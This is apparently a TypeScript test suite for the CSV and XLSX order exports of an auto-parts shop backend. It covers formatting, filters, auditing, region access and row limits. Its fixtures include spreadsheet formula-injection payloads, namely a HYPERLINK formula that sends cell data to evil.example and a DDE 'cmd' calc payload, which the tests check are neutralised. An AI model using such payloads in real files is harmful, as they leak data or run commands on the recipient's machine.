import { ExternalOrder } from '../../src/orders/external-orders/external-order.entity.js';
import type { ApiClient } from '../support/api-client.js';
import { noticeEventually } from '../support/delivering.js';
import { addPerson } from '../support/people.js';
import { orderOf, positionOf, Shop } from '../support/shop.js';
import { download, openCsv, openXlsx } from '../support/spreadsheet.js';
import { sql, stored } from '../support/stored.js';

const EVIL = `=HYPERLINK("http://evil.example?"&A1;"ok")`;
const MOSCOW = 3 * 3_600_000;
const ASKED_EVERY_MS = 20;

/** Days since the end of 1899, as spreadsheets count, of an instant on Moscow's clock, to the second. */
const serialOf = (iso: string) => Math.floor((Date.parse(iso) + MOSCOW) / 1_000) / 86_400 + 25_569;

/** «24.11.2026 09:15:00» of an instant on Moscow's clock. */
const russianTime = (iso: string) => {
  const [day, time] = new Date(Date.parse(iso) + MOSCOW).toISOString().slice(0, 19).split('T');
  return `${day!.split('-').reverse().join('.')} ${time}`;
};

async function csv(client: ApiClient, path: string) {
  const { status, bytes } = await download(client, `${path}${path.includes('?') ? '&' : '?'}format=csv`);
  expect([path, status]).toEqual([path, 200]);
  const [head, ...rows] = openCsv(bytes);
  return rows.map((row) => Object.fromEntries(row.map((cell, index) => [head![index]!, cell])));
}

async function xlsx(client: ApiClient, path: string) {
  const { status, bytes } = await download(client, path);
  expect([path, status]).toEqual([path, 200]);
  return openXlsx(bytes);
}

describe('the lists as files', () => {
  let shop: Shop;
  let order: Record<string, any>; // oxlint-disable-line typescript/no-explicit-any -- an answer of the API
  let waiting: typeof order;

  beforeAll(async () => {
    shop = await Shop.open();
    order = await shop.accepted('GZ-00017', 2);
    await noticeEventually(shop, 'GZ-00017', { state: 'delivered' });
    shop.clock.advance(1_000);
    waiting = await shop.receive('GZ-2', 1, {
      comment: EVIL,
      customer: { name: '@SUM(1+1)', phone: '+79000000000', email: '-2+3' },
      delivery: { type: 'constructor', address: 'Тверь; "Склад",=cmd|\'/C calc\'!A0\nвторая строка' },
      positions: [positionOf(1, { number: '00123', name: '+1+1', comment: 'a_x0041_b', price: '1234567.05' })],
    });
  });
  afterAll(() => shop.close());

  describe('csv', () => {
    it('is read by a Russian Excel: byte order mark, semicolons, CRLF, commas in amounts, the region’s time', async () => {
      const rows = await csv(shop.admin, '/external-orders/export');
      expect(rows).toHaveLength(2);
      expect(rows[1]).toEqual({
        'Внешний заказ': order.externalOrderId,
        '№ GettZap': 'GZ-00017',
        Состояние: 'Принят',
        Отметки: '',
        Получен: russianTime((await shop.externalOrder(order.externalOrderId)).receivedAt),
        Оформлен: '24.11.2026 09:15:00',
        'Заказано на сумму': '13800,00',
        'Принято на сумму': '13800,00',
        Позиций: '2',
        Покупатель: 'Иванов Пётр',
        Телефон: '+7 900 000-00-00',
        'Эл. почта': 'p@example.com',
        Доставка: 'Самовывоз',
        'Адрес доставки': '',
        Комментарий: 'Позвоните перед отправкой',
        Заказ: order.id,
        'Что не распознано': '',
        VIN: '',
        Регион: 'Основной',
        'Часовой пояс': 'Europe/Moscow',
        Подключение: 'GettZap office-1',
      });
    });

    it('speaks English when asked to', async () => {
      const [row] = await csv(shop.admin, '/external-orders/positions/export?lang=en&positionState=open');
      expect(row).toMatchObject({ 'Order state': 'New', Price: '1234567.05', 'Part number': '00123', Quantity: '2' });
      expect(row!.Received).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
    });

    it('holds no formula, whatever the buyer wrote', async () => {
      const [row] = await csv(shop.admin, `/external-orders/export?ids=${waiting.id}`);
      expect(row).toMatchObject({
        Комментарий: `'${EVIL}`,
        Покупатель: `'@SUM(1+1)`,
        'Эл. почта': `'-2+3`,
        Телефон: `'+79000000000`,
        'Адрес доставки': `Тверь; "Склад",'=cmd|'/C calc'!A0\nвторая строка`,
        'Заказано на сумму': '2469134,10',
      });
      const [position] = await csv(shop.admin, `/external-orders/positions/export?ids=${waiting.positions[0].id}`);
      expect(position).toMatchObject({ Наименование: `'+1+1`, 'Заказано на сумму': '2469134,10' });
    });
  });

  describe('xlsx', () => {
    it('has real numbers and times, ids as text, a frozen bold header and column widths', async () => {
      const { sheetName, rows, styleOf, xml } = await xlsx(shop.admin, '/orders/export');
      expect(sheetName).toBe('Заказы');
      expect(rows).toEqual([
        [
          ...['№ заказа', '№ GettZap', 'Создан', 'Статус заказа', 'Отметки', 'Бренд', 'Артикул', 'Наименование'],
          ...[
            'Количество',
            'Цена',
            'Сумма',
            'Статус позиции',
            'Срок, дней',
            'Комментарий к позиции',
            'Покупатель',
            'Телефон',
          ],
          ...[
            'Эл. почта',
            'Доставка',
            'Адрес доставки',
            'Комментарий',
            'Принято при решении',
            'Заказано на сумму',
            'Внешний заказ',
          ],
          ...['VIN', 'Прайс-лист', 'Цена в прайс-листе', 'Остаток в прайс-листе', 'Дата прайс-листа'],
          ...['Регион', 'Часовой пояс', 'Подключение'],
        ],
        ...[1, 2].map((index) => [
          ...[order.id, 'GZ-00017', expect.closeTo(serialOf(order.createdAt), 7), 'Обрабатывается', null, 'BOSCH'],
          ...[
            `P${index}`,
            'Колодки тормозные',
            2,
            3450,
            6900,
            'Обрабатывается',
            1,
            null,
            'Иванов Пётр',
            '+7 900 000-00-00',
          ],
          ...['p@example.com', 'Самовывоз', null, 'Позвоните перед отправкой', 13800, 13800, order.externalOrderId],
          ...[null, null, null, null, null],
          ...['Основной', 'Europe/Moscow', 'GettZap office-1'],
        ]),
      ]);
      expect(styleOf('A1').isBold).toBe(true);
      expect(styleOf('A2')).toEqual({ format: '@', isBold: false });
      expect(styleOf('C2').format).toBe('dd.mm.yyyy hh:mm');
      expect(styleOf('J2').format).toBe('#,##0.00');
      expect(xml).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
      expect(xml.match(/<col [^>]*width="[\d.]+"/g)).toHaveLength(31);
      expect(xml).toContain('<autoFilter ref="A1:AE3"/>');
    });

    it('shows every text as it came and holds no formula', async () => {
      const { rows, xml } = await xlsx(shop.admin, `/external-orders/export?ids=${waiting.id}`);
      expect(rows[1]).toEqual(expect.arrayContaining([EVIL, '@SUM(1+1)', '+79000000000', '-2+3', 'constructor']));
      expect(xml).not.toContain('<f>');
      const positions = await xlsx(shop.admin, `/external-orders/positions/export?ids=${waiting.positions[0].id}`);
      expect(positions.rows[1]).toEqual(expect.arrayContaining(['00123', '+1+1', 'a_x0041_b', 1234567.05]));
    });

    it('is made for several at once', async () => {
      const files = await Promise.all([1, 2, 3].map(() => xlsx(shop.admin, '/external-orders/export')));
      expect(files.map(({ rows }) => rows.length)).toEqual([3, 3, 3]);
    });
  });

  it('exports GettZap notifications', async () => {
    const rows = await csv(shop.admin, '/gettzap-notifications/export?state=delivered&kind=order_accepted');
    expect(rows).toEqual([
      expect.objectContaining({
        Состояние: 'Доставлено',
        '№ GettZap': 'GZ-00017',
        Заказ: order.id,
        Уведомление: 'Заказ принят',
        'Статус GettZap': 'accepted',
        Попыток: '1',
        Регион: 'Основной',
        'Часовой пояс': 'Europe/Moscow',
      }),
    ]);
    expect(await csv(shop.admin, '/gettzap-notifications/export?state=dead')).toEqual([]);
    const [{ id }] = await shop.notifications(order.externalOrderId);
    const retried = await shop.admin.post('/gettzap-notifications/retry', { filter: { ids: `${id},0` }, dryRun: true });
    expect(retried.body).toMatchObject({ matched: 1, needConfirmation: 1 });
  });

  it('follows the filters and the sorting of the lists', async () => {
    const exported = async (query: string) =>
      (await csv(shop.admin, `/external-orders/export?${query}`)).map((row) => row['№ GettZap']);
    expect(await exported('')).toEqual(['GZ-2', 'GZ-00017']);
    expect(await exported('sort=createdAt')).toEqual(['GZ-00017', 'GZ-2']);
    expect(await exported('state=new,refused')).toEqual(['GZ-2']);
    expect(await exported('q=00123')).toEqual(['GZ-2']);
    expect(await exported(`to=${new Date(waiting.receivedAt).toISOString()}`)).toEqual(['GZ-00017']);
    expect(await exported('regionId=999')).toEqual([]);
    expect(await exported(`ids=${order.externalOrderId}&state=new`)).toEqual([]);
    expect(await csv(shop.admin, `/orders/export?ids=${order.id}`)).toHaveLength(2);
    expect(await csv(shop.admin, '/orders/export?statusId=none')).toEqual([]);
    const { body } = await shop.admin.get(`/external-orders?ids=${waiting.id},${order.externalOrderId}&sort=createdAt`);
    expect(body.data.map(({ id }: { id: string }) => id)).toEqual([order.externalOrderId, waiting.id]);
  });

  it('is written down: who, which list, by which filter, how many rows, and nothing of a buyer', async () => {
    const named = `q=${encodeURIComponent('Иванов')}&refusalReason=${encodeURIComponent('Иванов молчит')}`;
    await shop.admin.get(`/external-orders/export?format=csv&state=new&${named}`);
    await shop.admin.get('/orders/export?format=xlsx');
    const { body } = await shop.admin.get('/audit?subject=list&perPage=2');
    expect(body.data).toMatchObject([
      { action: 'export', userId: '1', after: { list: 'orders', format: 'xlsx', rows: expect.any(Number) } },
      {
        action: 'export',
        after: { list: 'externalOrders', format: 'csv', state: ['new'], q: '***', refusalReason: '***' },
      },
    ]);
    expect(JSON.stringify(body.data)).not.toContain('Иванов');
  });

  it('names the file in the language, with a name for older browsers beside it', async () => {
    const headersOf = async (query: string) => (await download(shop.admin, `/external-orders/export?${query}`)).headers;
    const today = new Date(shop.clock.now().getTime() + MOSCOW).toISOString().slice(0, 10);
    const russian = await headersOf('format=csv');
    expect(russian.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(russian.get('cache-control')).toBe('no-store');
    expect(russian.get('content-disposition')).toBe(
      `attachment; filename="external-orders-${today}.csv"; filename*=UTF-8''${encodeURIComponent(`Внешние заказы ${today}.csv`)}`,
    );
    const english = await headersOf('lang=en');
    expect(english.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(english.get('content-disposition')).toContain(`filename*=UTF-8''External%20orders%20${today}.xlsx`);
  });

  it.each([
    ['another format', '/external-orders/export?format=pdf', 'format'],
    ['another language', '/external-orders/export?lang=de', 'lang'],
    ['pages', '/external-orders/export?page=2', 'page'],
    ['an unknown state', '/external-orders/export?state=nonsense', 'state'],
    ['what is no id', '/orders/export?ids=1,x', 'ids'],
    ['too many ids', `/orders/export?ids=${Array.from({ length: 1_001 }, (_, index) => index + 1)}`, 'ids'],
    ['another channel', '/gettzap-notifications/export?channel=webhook', 'channel'],
  ])('refuses %s', async (_, path, field) => {
    const { status, body } = await shop.admin.get(path);
    expect([status, body.errors[0].path]).toEqual([422, field]);
  });

  it('shows nothing of other regions', async () => {
    const region = (await shop.admin.post('/regions', { name: 'Другой' })).body.id;
    const near = await addPerson(shop, 'near', ['observer'], [waiting.regionId]);
    const far = await addPerson(shop, 'far', ['observer'], [region]);
    const notification = (await shop.notifications(order.externalOrderId))[0].id;
    for (const path of [
      '/external-orders/export?x',
      '/external-orders/positions/export?x',
      '/orders/export?x',
      '/gettzap-notifications/export?x',
      `/external-orders/export?ids=${waiting.id}`,
      `/external-orders/positions/export?ids=${waiting.positions[0].id}`,
      `/orders/export?ids=${order.id}`,
      `/gettzap-notifications/export?ids=${notification}`,
      `/external-orders/export?regionId=${waiting.regionId}`,
    ]) {
      const query = path.replace('?x', '');
      expect([path, await csv(far.client, query)]).toEqual([path, []]);
      expect([path, (await csv(near.client, query)).length]).not.toEqual([path, 0]);
    }
    expect((await xlsx(far.client, '/external-orders/export')).rows).toHaveLength(1);
  });
});

describe('files of what the client cancelled after it was accepted', () => {
  let shop: Shop;
  beforeAll(async () => {
    shop = await Shop.open();
    await shop.accepted('GZ-1', 2);
    await shop.cancel('GZ-1', ['1']);
  });
  afterAll(() => shop.close());

  it('have no piece of it accepted any more', async () => {
    const rows = await csv(shop.admin, '/external-orders/positions/export');
    expect(rows.map((row) => [row['Состояние позиции'], row['Количество'], row['Принято']])).toEqual([
      ['Отменена клиентом', '2', '0'],
      ['Принята', '2', '2'],
    ]);
  });

  it('tell what is still accepted from what was, each by its own name', async () => {
    const [inbox] = await csv(shop.admin, '/external-orders/export');
    const [item] = await csv(shop.admin, '/orders/export');
    expect(inbox).toMatchObject({ 'Заказано на сумму': '13800,00', 'Принято на сумму': '6900,00' });
    expect(item).toMatchObject({ 'Принято при решении': '13800,00', 'Заказано на сумму': '13800,00' });
    expect(item).not.toHaveProperty('Принято на сумму');
  });

  it('do not say that something was issued where it only stays, for want of a status for what is cancelled', async () => {
    await shop.admin.patch(`/marketplace-connections/${shop.connectionId}`, { cancelledStatusId: null });
    const order = await shop.accepted('GZ-stays');
    await shop.cancel('GZ-stays');
    expect(await csv(shop.admin, `/orders/export?ids=${order.id}`)).toMatchObject([
      { 'Статус заказа': 'Обрабатывается', Отметки: 'отменён клиентом, отменённое не снято' },
    ]);
  });
});

describe('a file of 50,000 rows', () => {
  let shop: Shop;
  beforeAll(async () => {
    shop = await Shop.open();
    await shop.receive('GZ-1');
    // The one that comes in meanwhile is the last that a file may have, whenever it comes.
    await copyFirst(shop, 49_998);
  });
  afterAll(() => shop.close());

  /** Asks for something else over and over while a file is made. */
  async function whileAsking<T>(making: Promise<T>): Promise<{ made: T; answered: number }> {
    let isOver = false;
    const made = making.finally(() => {
      isOver = true;
    });
    let answered = 0;
    while (!isOver) {
      await shop.admin.get('/regions');
      answered += 1;
      // As people ask: requests without a pause would only make the file late.
      await new Promise((resolve) => setTimeout(resolve, ASKED_EVERY_MS));
    }
    return { made: await made, answered };
  }

  it('is written whole as csv, each row once, while new ones come in, and keeps nobody waiting', async () => {
    const writing = whileAsking(csv(shop.admin, '/external-orders/export?to=2100-01-01'));
    const arriving = { event: 'order.created', order: orderOf('NEW') };
    expect((await shop.postToLink(arriving)).status).toBe(200);
    const { made, answered } = await writing;
    const ids = made.map((row) => row['Внешний заказ']);
    expect([49_999, 50_000]).toContain(ids.length);
    expect(new Set(ids).size).toBe(ids.length);
    expect(answered).toBeGreaterThan(20);
  });

  it('is made as xlsx and keeps nobody waiting', async () => {
    const { made, answered } = await whileAsking(download(shop.admin, '/external-orders/export?format=xlsx'));
    expect(made.status).toBe(200);
    expect(answered).toBeGreaterThan(20);
  });

  it('is the most that there is', async () => {
    await shop.postToLink({ event: 'order.created', order: orderOf('ONE-MORE') });
    const { status, body } = await shop.admin.get('/external-orders/export');
    expect([status, body.errors]).toMatchObject([422, [{ code: 'too_many_rows', params: { max: 50_000 } }]]);
    expect((await download(shop.admin, '/external-orders/export?q=GZ-1')).status).toBe(200);
  });
});

/** Adds so many copies of the one external order that there is. */
async function copyFirst(shop: Shop, count: number): Promise<void> {
  const { columns: all } = stored(shop).connection.getMetadata(ExternalOrder);
  const columns = all.filter(({ isInsert }) => isInsert);
  const copied = columns.map(({ databaseName }) => databaseName).filter((name) => name !== 'id');
  const values = copied.map((name) => (name.startsWith('external_id') ? 'numbers.n' : name));
  const digits = `(${Array.from({ length: 10 }, (_, digit) => `SELECT ${digit} AS n`).join(' UNION ALL ')})`;
  const places = ['a', 'b', 'c', 'd', 'e'];
  const number = places.map((place, index) => `${place}.n * ${10 ** index}`).join(' + ');
  const numbers = `SELECT ${number} AS n FROM ${places.map((place) => `${digits} ${place}`).join(' CROSS JOIN ')}`;
  // In parts, since a statement has a time limit.
  for (let from = 0; from < count; from += 2_000) {
    await sql(
      shop,
      `INSERT INTO external_orders (${copied.join(', ')})
       SELECT ${values.join(', ')} FROM external_orders CROSS JOIN (${numbers}) numbers
       WHERE external_orders.id = 1 AND numbers.n >= ${from} AND numbers.n < ${Math.min(from + 2_000, count)}`,
    );
  }
}
